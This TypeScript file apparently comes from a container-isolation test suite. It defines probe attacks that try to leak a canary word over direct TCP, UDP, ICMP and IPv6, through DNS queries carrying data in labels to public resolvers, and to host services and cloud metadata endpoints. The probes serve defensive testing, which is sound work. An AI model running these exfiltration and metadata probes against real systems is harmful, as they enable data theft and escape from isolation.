import { readFile } from 'node:fs/promises';
import type { Attack, Verdict } from '../attack.ts';
import type { Stage } from '../stage.ts';
import { python } from './python.ts';

const network = { weakness: 'network', without: '--network none' } as const;

/** What canaries heard of this attack, as a verdict. */
export function heard({ canaries, word }: Stage, counts: (at: string) => boolean = () => true): Verdict {
  const seen = canaries.seen(word).filter(({ at }) => counts(at));
  const ways = [...new Set(seen.map(({ protocol, at }) => `${protocol}${at.includes(':') ? '6' : ''}`))];
  return {
    through: seen.length > 0,
    seen: seen.length > 0 ? `canary heard ${ways.join(', ')}` : 'canaries: nothing',
  };
}

export const attacks: readonly Attack[] = [
  {
    id: 'N1',
    title: 'direct TCP, UDP, ICMP and IPv6 to the internet',
    expected: 'no device but lo, no canary hears a word',
    representative: true,
    attack: async (stage) => {
      const script = python(
        stage.word,
        `
for family, kind, proto, to in [(2, 1, 0, ('198.51.100.7', 80)), (2, 2, 0, ('198.51.100.7', 514)),
                                (10, 1, 0, ('2001:db8::7', 80)), (2, 2, 1, ('198.51.100.7', 0))]:
    try:
        s = socket.socket(family, kind, proto)
        s.settimeout(2)
        s.connect(to)
        s.send(b'\\x08\\0\\0\\0' + word if proto == 1 else word)
        s.recv(100)
    except OSError as error:
        print(to, error)`,
      );
      const devices = await stage.hold(script, async ({ info }) => devicesOf(info.State.Pid));
      const { through, seen } = heard(stage);
      const more = devices.filter((device) => device !== 'lo');
      return { through: through || more.length > 0, seen: `${seen}; devices: ${devices.join(', ')}` };
    },
    control: network,
  },
  {
    id: 'N2',
    title: 'DNS: the engine’s resolver, 8.8.8.8, getent, data in labels',
    expected: 'the DNS canary is asked nothing',
    attack: async (stage) => {
      const { word } = stage;
      const script = `getent hosts ${word}.a.example
${python(
  word,
  `
question = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(word)]) + word + b'\\1d\\7example\\0\\0\\1\\0\\1'
for server in ['127.0.0.11', '8.8.8.8', '1.1.1.1']:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(question, (server, 53))
        s.recv(512)
    except OSError as error:
        print(server, error)
    say(tcp(server, 53), struct.pack('!H', len(question)) + question)
# The gateway has a resolver, too: a name that is not listed must not get to it.
tunnel(word + b'.e.example:443')`,
)}`;
      await stage.play(script);
      return heard(stage);
    },
    control: network,
  },
  {
    id: 'N3',
    title: 'the host: gateway address, Redis, Slack’s port, metadata',
    expected: 'unreachable',
    attack: async (stage) => {
      const { word } = stage;
      const port = Number(stage.errand.env.PORT ?? 8080);
      const script = python(
        word,
        `
for host, port in [('10.99.0.1', 6379), ('172.17.0.1', 2375), ('169.254.169.254', 80), ('169.254.170.2', 80),
                   ('100.100.100.200', 80), ('10.99.0.1', ${port}), ('192.168.65.1', 22)]:
    say(tcp(host, port), b'GET /' + word + b' HTTP/1.0\\r\\n\\r\\n')
say(tcp('fd00:ec2::254', 80, socket.AF_INET6), b'GET /' + word + b' HTTP/1.0\\r\\n\\r\\n')`,
      );
      await stage.play(script);
      return heard(stage);
    },
    control: network,
  },
];

/** The network devices of a process's namespace, as the host's kernel has them. */
async function devicesOf(pid: number): Promise<string[]> {
  const table = await readFile(`/proc/${pid}/net/dev`, 'utf8');
  return Array.from(table.matchAll(/^\s*([\w.-]+):/gm), ([, name = '']) => name);
}
